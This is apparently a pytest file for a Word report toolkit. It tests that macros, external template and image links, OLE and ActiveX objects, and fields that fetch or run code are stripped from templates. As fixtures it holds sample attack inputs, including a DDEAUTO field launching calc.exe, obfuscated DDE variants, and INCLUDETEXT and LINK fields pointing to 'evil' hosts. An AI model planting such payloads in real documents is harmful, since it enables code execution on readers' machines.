"""What a report must not carry over from its template: macros, links Word follows by itself, fields that fetch or run."""

from __future__ import annotations

import re

import pytest
from support.computed import computed
from support.lint import lint
from support.words import changed, document, facts, saved, texts

from toolkit.problems import Problem, ToolkitError
from toolkit.word.active import drop_active_content
from toolkit.word.compile import compile_template
from toolkit.word.fill import fill
from toolkit.word.package import Package

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def relation(kind: str, target: str, *, id_: str = "rIdX", external: bool = True) -> str:
    base = R if "/" not in kind else ""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{id_}" Type="{base}{"/" if base else ""}{kind}" Target="{target}"{mode}/>'


def template(body: str = "", relations: str = "", *, types: str = "", **more: bytes) -> bytes:
    """A template that shows {{ x }}, with more XML at the end of its body, more relationships and more parts."""

    def edit(name: str, data: bytes) -> bytes:
        if name == "word/document.xml":
            return data.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", relations.encode() + b"</Relationships>")
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", types.encode() + b"</Types>")
        return data

    return changed(document("{{ x }}"), edit, **more)


def made(data: bytes) -> tuple[Package, list[Problem]]:
    """The report a template gives, as it was written, and the problems of the template."""
    compiled = compile_template(data, "mau.docx")
    report = fill(compiled, facts(computed("Nội dung | 2023\nA | 5"), x="1"), workbook="a.xlsx").package
    assert lint(saved(report)) == []
    return Package.read(saved(report)), list(compiled.problems)


def codes(problems: list[Problem]) -> list[str]:
    return [problem.code for problem in problems]


def everything(package: Package) -> bytes:
    return b"".join(package.parts.values())


def test_links_that_word_follows_by_itself_are_left_out_and_said() -> None:
    settings = f'<Relationships xmlns="{RELS}">{relation("attachedTemplate", "http://evil/y.dotm", id_="rId1")}</Relationships>'
    picture = (
        f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s"><v:imagedata xmlns:q="{R}" q:id="rIdX"/>'
        "</v:shape></w:pict></w:r></w:p>"
    )
    data = template(
        picture,
        relation("image", "http://evil/a.png") + relation("hyperlink", "http://kept/", id_="rIdH"),
        **{"word/_rels/settings.xml.rels": settings.encode()},
    )
    report, problems = made(data)
    assert sorted(str(problem.values["target"]) for problem in problems) == ["http://evil/a.png", "http://evil/y.dotm"]
    assert set(codes(problems)) == {"PL505"}
    assert b"evil" not in everything(report)
    assert b"http://kept/" in report.parts["word/_rels/document.xml.rels"]
    assert b"imagedata" in report.parts["word/document.xml"]
    assert b'"rIdX"' not in report.parts["word/document.xml"]


OLE = (
    f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.12" '
    f'ShapeID="s" DrawAspect="Content" ObjectID="_1" UpdateMode="Always" r:id="rIdX" xmlns:r="{R}"/></w:object></w:r></w:p>'
)
SUBDOC = f'<w:subDoc xmlns:r="{R}" r:id="rIdX"/>'


@pytest.mark.parametrize(
    ("kind", "xml", "tag"),
    [("oleObject", OLE, b"OLEObject"), ("subDocument", SUBDOC, b"subDoc"), ("frame", "", b"frame")],
)
def test_what_is_nothing_without_its_link_goes_whole(kind: str, xml: str, tag: bytes) -> None:
    report, problems = made(template(xml, relation(kind, r"\\evil\share\a.xlsx")))
    assert codes(problems) == ["PL505"]
    assert b"evil" not in everything(report)
    assert b"<" + tag not in report.parts["word/document.xml"]
    assert b":" + tag not in report.parts["word/document.xml"]


def test_a_mail_merge_source_goes() -> None:
    def edit(name: str, data: bytes) -> bytes:
        merge = f'<w:mailMerge xmlns:r="{R}"><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdX"/></w:mailMerge>'
        return (
            data.replace(b"</w:settings>", merge.encode() + b"</w:settings>") if name == "word/settings.xml" else data
        )

    rels = f'<Relationships xmlns="{RELS}">{relation("mailMergeSource", "file:///evil.mdb")}</Relationships>'
    report, problems = made(changed(template(), edit, **{"word/_rels/settings.xml.rels": rels.encode()}))
    assert codes(problems) == ["PL505"]
    assert b"mailMerge>" not in report.parts["word/settings.xml"]


def test_a_link_of_the_package_itself_goes() -> None:
    def edit(name: str, data: bytes) -> bytes:
        link = relation("thumbnail", "http://evil/t.png").encode()
        return data.replace(b"</Relationships>", link + b"</Relationships>") if name == "_rels/.rels" else data

    report, problems = made(changed(document("{{ x }}"), edit))
    assert codes(problems) == ["PL505"]
    assert b"evil" not in report.parts["_rels/.rels"]


def test_chunks_that_word_takes_in_go_with_their_parts() -> None:
    chunk = f'<w:altChunk xmlns:r="{R}" r:id="rIdX"/>'
    html = b"<html><img src='http://evil/a.png'></html>"
    types = '<Override PartName="/word/chunk.html" ContentType="text/html"/>'
    data = template(chunk, relation("aFChunk", "chunk.html", external=False), types=types, **{"word/chunk.html": html})
    report, problems = made(data)
    assert codes(problems) == ["PL506"]
    assert b"evil" not in everything(report)
    assert b"altChunk" not in report.parts["word/document.xml"]
    assert "word/chunk.html" not in report.parts


def test_activex_controls_go_with_their_parts() -> None:
    xml = f'<w:p><w:r><w:object><w:control xmlns:r="{R}" r:id="rIdX" w:name="b" w:shapeid="s"/></w:object></w:r></w:p>'
    inner = f'<Relationships xmlns="{RELS}">{relation("http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin", external=False)}</Relationships>'
    types = (
        '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
        '<Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>'
    )
    parts = {
        "word/activeX/activeX1.xml": b"<a/>", "word/activeX/activeX1.bin": b"x",
        "word/activeX/_rels/activeX1.xml.rels": inner.encode(),
    }  # fmt: skip
    report, problems = made(
        template(xml, relation("control", "activeX/activeX1.xml", external=False), types=types, **parts)
    )
    assert set(codes(problems)) == {"PL506"}
    assert not [name for name in report.parts if "activeX" in name]
    assert b"w:control" not in report.parts["word/document.xml"]


@pytest.mark.parametrize("kind", ["document", "template"])
def test_macros_do_not_reach_the_report(kind: str) -> None:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = f"application/vnd.ms-word.{kind}.macroEnabled{'Template' if kind == 'template' else ''}.main+xml"
    ms = "http://schemas.microsoft.com/office/2006/relationships"
    data = template(
        "",
        relation(f"{ms}/vbaProject", "vbaProject.bin", external=False, id_="rIdV")
        + relation(f"{ms}/keyMapCustomizations", "customizations.xml", external=False, id_="rIdK"),
        types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/customizations.xml" ContentType="application/vnd.ms-word.keyMapCustomizations+xml"/>',
        **{"word/vbaProject.bin": b"x", "word/customizations.xml": b"<a/>"},
    )
    data = changed(data, lambda name, xml: xml.replace(main.encode(), macro.encode()) if "Types" in name else xml)
    report, problems = made(data)
    assert codes(problems) == ["PL131"]
    assert not [name for name in report.parts if "vba" in name or "customizations" in name]
    assert b"macro" not in report.parts["[Content_Types].xml"]
    assert b"vbaProject" not in everything(report)


# --- fields ---------------------------------------------------------------------------------------------------------


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*pieces: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)


def shown(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def nested(*code_: str, result: str = "") -> str:
    return char("begin") + "".join(code_) + char("separate") + result + char("end")


ACTIVE = {
    "plain": nested(code(" DDEAUTO c:\\\\windows\\\\calc.exe "), result=shown("kept")),
    "split": nested(code(" D", "D", "E excel x"), result=shown("kept")),
    "lower": nested(code("includetext http://evil/a.docx"), result=shown("kept")),
    "picture": nested(code('"INCLUDEPICTURE" http://evil/a.png'), result=shown("kept")),
    "link": nested(code(" LINK Excel.Sheet.8 evil.xls"), result=shown("kept")),
    "argument": nested(code(" INCLUDETEXT "), nested(code(" QUOTE 104 "), result=shown("hidden")), result=shown("kept")),
    "keyword computed": nested(nested(code(" QUOTE DDE "), result=shown("hidden")), code(" "), result=shown("kept")),
    "inside a code": nested(code(" IF 1 = "), nested(code(" DDE x y ")), result=shown("kept")),
    "no result": char("begin") + code("MACROBUTTON Evil hidden") + char("end") + shown("kept"),
    "never ends": char("begin") + code("DDE x y") + shown("kept"),
    "simple": f'<w:fldSimple w:instr=" DDE excel evil ">{shown("kept")}</w:fldSimple>',
}  # fmt: skip


@pytest.mark.parametrize("form", sorted(set(ACTIVE) - {"never ends"}))
def test_fields_that_fetch_or_run_lose_their_code(form: str) -> None:
    report, problems = made(template(f"<w:p>{shown('before ')}{ACTIVE[form]}{shown(' after')}</w:p>"))
    assert codes(problems) == ["PL507"]
    xml = report.parts["word/document.xml"].decode()
    assert not re.search(r"(?i)dde|include|evil|LINK|QUOTE", "".join(re.findall(r"instr[^<]*", xml)))
    assert texts(report)[-1] == "before kept after"


def test_a_field_that_never_ends_loses_its_code_too() -> None:
    _, problems = made(template(f"<w:p>{ACTIVE['never ends']}</w:p>"))
    assert codes(problems) == ["PL507"]


def test_a_field_that_never_ends_takes_no_tab_stops_with_it() -> None:
    stops = '<w:p><w:pPr><w:tabs><w:tab w:val="right" w:pos="9072"/></w:tabs></w:pPr></w:p>'
    report, _ = made(template(f"<w:p>{ACTIVE['never ends']}<w:r><w:tab/></w:r></w:p>{stops}"))
    xml = report.parts[report.main]
    assert b'<w:tabs><w:tab w:val="right" w:pos="9072"/></w:tabs>' in xml
    assert b"<w:tab/>" not in xml


@pytest.mark.parametrize(
    "kept", ["PAGE", "NUMPAGES \\* MERGEFORMAT", "HYPERLINK http://x/", "SEQ Bảng", "TOC \\o", "=SUM(ABOVE)", "REF DDE"]
)
def test_other_fields_stay(kept: str) -> None:
    report, problems = made(template(f"<w:p>{nested(code(kept), result=shown('1'))}</w:p>"))
    assert problems == []
    assert kept.encode() in report.parts["word/document.xml"]


PICTURE = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" alt="{{ x }}"/></w:pict></w:r></w:p>'
)


@pytest.mark.parametrize(
    "xml", [f"<w:p>{nested(code('HYPERLINK http://x/{{ x }}'), result=shown('1'))}</w:p>", PICTURE,
            '<w:p><w:fldSimple w:instr="QUOTE {% if x %}"/></w:p>']
)  # fmt: skip
def test_a_tag_where_no_text_is_shown_is_said(xml: str) -> None:
    with pytest.raises(ToolkitError) as caught:
        compile_template(template(xml), "mau.docx")
    assert [(problem.code, str(problem.place)) for problem in caught.value.problems] == [("PL527", "body, ¶2")]


def test_headers_and_notes_are_looked_at_too() -> None:
    data = document("{{ x }}", header="đầu trang")

    def edit(name: str, xml: bytes) -> bytes:
        return xml.replace(b"</w:p>", ACTIVE["plain"].encode() + b"</w:p>", 1) if "header" in name else xml

    report, problems = made(changed(data, edit))
    assert codes(problems) == ["PL507"]
    assert b"DDEAUTO" not in everything(report)


def test_a_template_without_any_of_it_is_left_as_it_is() -> None:
    package = Package.read(template(f"<w:p>{nested(code('PAGE'), result=shown('1'))}</w:p>"))
    before = dict(package.parts)
    assert drop_active_content(package, "mau.docx") == []
    assert package.parts == before


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16"])
def test_a_template_in_utf_16_is_looked_at_as_any(encoding: str) -> None:
    """Every part spelt in the other way XML may be: the same is filled, and the same is left out and said."""
    plain = template(
        f"<w:p>{nested(code('INCLUDETEXT http://x/a.docx'), result=shown('cũ'))}</w:p>",
        relation("/attachedTemplate", "http://x/a.dotm") + relation("/image", "http://x/a.png", id_="rIdY"),
    )

    def wide(name: str, data: bytes) -> bytes:
        if not name.endswith((".xml", ".rels")):
            return data
        text = re.sub(r"^<\?xml[^>]*>", "", data.decode())
        return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode(encoding)

    (one, told), (two, told_wide) = made(plain), made(changed(plain, wide))
    assert codes(told) == codes(told_wide) != []
    assert texts(one) == texts(two)
    for gone in (b"INCLUDETEXT", b"http://x/"):
        assert gone not in everything(two)
        assert gone not in everything(two).replace(b"\0", b"")
